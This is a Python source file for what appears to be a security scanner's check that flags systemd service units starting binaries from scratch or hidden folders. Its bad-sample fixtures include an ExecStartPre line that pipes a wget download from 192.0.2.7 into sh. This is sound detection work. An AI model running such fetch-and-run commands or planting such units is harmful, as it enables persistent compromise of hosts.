"""Services of systemd as intruders leave them."""

from collections.abc import Iterator

from hullmark.checks.declare import file_check
from hullmark.checks.odd_commands import odd
from hullmark.checks.samples import BAR, script
from hullmark.checks.service_units import SERVICES, commands
from hullmark.model import Evidence, File, Severity
from hullmark.model.finding import Kind
from hullmark.model.rule import Confidence


def _bad() -> tuple[File, ...]:
    return (
        script("etc/systemd/system/net.service", "[Service]", "ExecStart=/dev/shm/netd -c x"),
        script(
            "usr/lib/systemd/system/up.service",
            "[Service]",
            f"ExecStartPre=/bin/sh -c 'wget -qO- http://192.0.2.7/a {BAR}| s{BAR}h'",
        ),
        script("root/.config/systemd/user/a.service", "[Service]", "ExecStart=-/usr/lib/.cache/a"),
    )


def _good() -> tuple[File, ...]:
    return (
        script(
            "etc/systemd/system/web.service",
            "[Service]",
            "# ExecStart=/tmp/web",
            "ExecStart=/usr/sbin/web --scratch /tmp/web",
            "Environment=TMP=/var/tmp",
        ),
    )


@file_check(
    id="odd-service",
    title="A service starts what intruders start",
    kind=Kind.MALWARE,
    severity=Severity.HIGH,
    confidence=Confidence.LIKELY,
    names=SERVICES,
    bad=_bad,
    good=_good,
    remediation="Find out who added it. Unless you did, build the image anew from what you trust.",
    references=("https://attack.mitre.org/techniques/T1543/002/",),
)
def odd_service(file: File) -> Iterator[Evidence]:
    """A service that starts from a scratch or hidden folder, or fetches itself, is how bots stay.

    Mounted on a host, or run as a virtual machine, the image starts it as root.
    """
    for number, command in commands(file):
        if why := odd(command):
            yield Evidence(at=f"command:{number}", says=f"a service {why}", line=number)
